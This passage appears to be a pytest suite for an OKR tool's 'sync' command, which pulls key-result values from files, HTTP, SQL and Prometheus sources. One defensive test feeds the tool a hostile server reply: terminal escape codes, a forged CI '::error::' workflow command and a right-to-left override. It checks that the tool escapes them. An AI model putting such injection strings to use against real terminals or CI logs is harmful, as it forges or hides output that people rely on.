    files = {**GOOD_FILES, "data/score.json": '{"s": 7}'}
    repo = make_repo(tmp_path, okr_file(GOOD, judged), files)
    code, out, _ = repo.sync()
    assert code == 1
    assert_failed(repo, "PLAT-1.2", out, "PLAT-1.2 is judged on 0.0-1.0, not 7")
    synced_good(repo)


def test_the_key_results_of_a_file_sync_as_one_edit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A file's synced key results are drafted together (one round-trip edit, however
    many; each alone cost two a key result) and leave the file that `okr checkin` of
    each, one after another, leaves."""
    from okrcli.edit import checkin, roundtrip

    values = {i: 10 if i == 4 else i * 3 for i in range(1, 13)}  # PLAT-1.4 stays 10
    okr = okr_file(
        *(key_result(f"PLAT-1.{i}", f"file: data/v{i}.json\nselect: value") for i in values)
    )
    files = {f"data/v{i}.json": json.dumps({"value": value}) for i, value in values.items()}
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    synced, by_hand = make_repo(tmp_path / "a", okr, files), make_repo(tmp_path / "b", okr, files)
    edits: list[str] = []
    real = roundtrip.round_trip_edit

    def counted(text: str, change: Callable[[Any], None]) -> str:
        edits.append(text)
        return real(text, change)

    monkeypatch.setattr(checkin, "round_trip_edit", counted)
    code, out, _ = synced.sync("--commit")
    assert code == 0, out
    assert len(edits) == 1
    assert "12 sources: 11 changed, 1 unchanged" in out
    for i, value in values.items():
        if value != 10:
            assert by_hand.cli.run("checkin", f"PLAT-1.{i}", str(value)).exit_code == 0
    assert synced.okr_text() == by_hand.okr_text()
    assert synced.message().splitlines()[0] == "okr: sync 11 key results (2026-Q4)"


def test_progress_is_plain_lines_in_ci(mixed: Repo) -> None:
    _, _, err = mixed.sync()
    lines = sorted(line.split("] ", 1)[1].rsplit(" (", 1)[0] for line in err.splitlines())
    assert lines == [
        "PLAT-1.1 file: 42",
        "PLAT-1.2 file: failed: the value 'n/a' is not a number",
        "PLAT-1.3 file: 7",
    ]
    assert sorted(line.split("]")[0] for line in err.splitlines()) == ["[1/3", "[2/3", "[3/3"]


def test_concurrency_is_bounded(tmp_path: Path) -> None:
    state = {"now": 0, "most": 0}
    lock = threading.Lock()

    def counted(handler: http.server.BaseHTTPRequestHandler) -> None:
        with lock:
            state["now"] += 1
            state["most"] = max(state["most"], state["now"])
        time.sleep(0.3)
        with lock:
            state["now"] -= 1
        answer(handler, b'{"n": 5}')

    with http_server({"/n": counted}) as base:
        many = [key_result(f"PLAT-1.{i}", f"http: {base}/n\nselect: n") for i in range(1, 7)]
        two_at_once = {"okrs/okrcli.yaml": "sync:\n  concurrency: 2\n"}
        repo = make_repo(tmp_path, okr_file(*many), two_at_once)
        started = time.monotonic()
        code, out, _ = repo.sync()
        elapsed = time.monotonic() - started
    assert code == 0, out
    assert state["most"] == 2
    assert elapsed >= 0.85  # six sources, two at a time, 0.3 s each
    assert "6 sources: 6 changed" in out


def test_status_marks_synced_key_results(mixed: Repo) -> None:
    extra = "      - id: PLAT-1.9\n        title: By hand\n        start: 0\n        target: 5\n"
    mixed.write(PLAT, mixed.okr_text() + extra)
    table = mixed.cli.run("status", "--no-history", env={"COLUMNS": "200"}).stdout
    rows = {line.split()[0]: line for line in table.splitlines() if line.startswith("  PLAT-")}
    assert rows["PLAT-1.1"].rstrip().endswith("synced: file")
    assert "synced" not in rows["PLAT-1.9"]
    payload = json.loads(mixed.cli.run("status", "--format", "json").stdout)
    sources = {kr["id"]: kr["source"] for o in payload["objectives"] for kr in o["key_results"]}
    assert sources == {"PLAT-1.1": "file", "PLAT-1.2": "file", "PLAT-1.3": "file", "PLAT-1.9": None}
    markdown = mixed.cli.run("status", "--format", "markdown").stdout
    assert "· synced from file" in markdown


def test_only_sync_loads_the_sources_libraries(tmp_path: Path) -> None:
    """SQLAlchemy and psycopg are for `okr sync`: reading files with every type of source,
    validated afresh or from the cache, loads neither, and no view loads the code that
    runs sources at all. (JMESPath is loaded by validation, where a file has a `select:`:
    a typo in an expression is an error in review, located, not a failed sync at night.)"""
    from tests.test_help import imported_after

    sources = (
        "sql: SELECT 1\nurl_env: OKR_METRICS_URL",
        "sql: SELECT 1\ndatabase: data/metrics.db",
        "prometheus: up\nserver: http://127.0.0.1:9/",
        "http: http://127.0.0.1:9/x\nselect: data.rate",
        "file: data/good.json\nselect: value",
        "file: data/rows.csv\ncolumn: n",
        "command: [scripts/count]",
    )
    okr = okr_file(*(key_result(f"PLAT-1.{i}", text) for i, text in enumerate(sources, 1)))
    repo = make_repo(tmp_path, okr, GOOD_FILES)
    root = str(repo.path / "okrs")
    heavy = {"sqlalchemy", "psycopg", "okrcli.sources"}
    views = (["validate", "--no-cache"], ["validate"], ["status"], ["report"], ["lint"])
    for argv in views:
        code = (
            "from okrcli.cli.app import app\n"
            "try:\n"
            f"    app({[*argv, '--root', root]!r}, prog_name='okr')\n"
            "except SystemExit as stop:\n"
            "    assert not stop.code, stop.code\n"
        )
        loaded = imported_after(code)
        assert "okrcli.model.sources" in loaded
        assert not heavy & loaded, (argv, heavy & loaded)


def test_plan_carries_the_source_into_the_next_period(mixed: Repo) -> None:
    result = mixed.cli.run("plan", "2027-Q1")
    assert result.exit_code == 0, result.stdout + result.stderr
    planned = (mixed.path / "okrs" / "2027-Q1" / "platform.yaml").read_text("utf-8")
    assert "file: data/good.json" in planned and "select: value" in planned


# ---- golden output ----------------------------------------------------------------------


@pytest.fixture
def three_ways(tmp_path: Path) -> Repo:
    """One key result that changes, one that fails, one already at its source's value."""
    okr = okr_file(
        GOOD,
        key_result("PLAT-1.2", "file: data/bad.json\nselect: value"),
        key_result("PLAT-1.3", "file: data/same.csv\ncolumn: n"),
    )
    files: dict[str, str | bytes] = {
        **GOOD_FILES,
        "data/bad.json": '{"value": "n/a"}',
        "data/same.csv": "week,n\nw1,4\nw2,10\n",
    }
    return make_repo(tmp_path, okr, files)


def _committed(text: str, repo: Repo) -> str:
    """The output with the new commit's sha (it holds today's date) made `<SHA>`."""
    return text.replace(repo.head(), "<SHA>").replace(repo.head()[:12], "<SHA>")


@pytest.mark.parametrize("output_format", ["text", "json"])
def test_golden_output(three_ways: Repo, output_format: str) -> None:
    suffix = "txt" if output_format == "text" else "json"
    code, out, _ = three_ways.sync("--dry-run", "--format", output_format)
    assert code == 1
    assert_golden(f"sync/dry-run.{suffix}", out)
    code, out, _ = three_ways.sync("--commit", "--format", output_format)
    assert code == 1
    assert_golden(f"sync/commit.{suffix}", _committed(out, three_ways))


def test_explain_describes_every_type_of_source(tmp_path: Path) -> None:
    repo = make_repo(tmp_path, okr_file(GOOD), GOOD_FILES)
    every = repo.cli.run("explain", "source").stdout
    for tag in ("sql", "prometheus", "http", "file", "command"):
        assert f"\n{tag}: " in every
    one = repo.cli.run("explain", "sql").stdout
    assert "\nsql: A query that returns one row with one number, through SQLAlchemy.\n" in one
    assert "  url_env:     (optional) The environment variable (OKR_...) holding" in one
    assert "  timeout:     (optional) Seconds the source may take" in one
    assert "\nhttp: " not in one
    missed = repo.cli.run("explain", "prometheu")
    assert missed.exit_code == 2 and "did you mean `prometheus`" in missed.stderr


def test_what_a_source_answers_is_shown_escaped(tmp_path: Path) -> None:
    hostile = json.dumps({"error": "\x1b[2J\n::error::forged\u202e"}).encode()
    routes: dict[str, Route] = {"/x": lambda handler: answer(handler, hostile, 500)}
    with http_server(routes) as base:
        repo = make_repo(
            tmp_path,
            okr_file(GOOD, key_result("PLAT-1.2", f"http: {base}/x\nselect: n")),
            GOOD_FILES,
        )
        for output_format in ("text", "json"):
            code, out, err = repo.sync("--dry-run", "--format", output_format)
            assert code == 1
            assert "forged" in out
            for text in (out, err):
                assert "\x1b" not in text and "\u202e" not in text
                assert not any(line.lstrip().startswith("::") for line in text.splitlines())
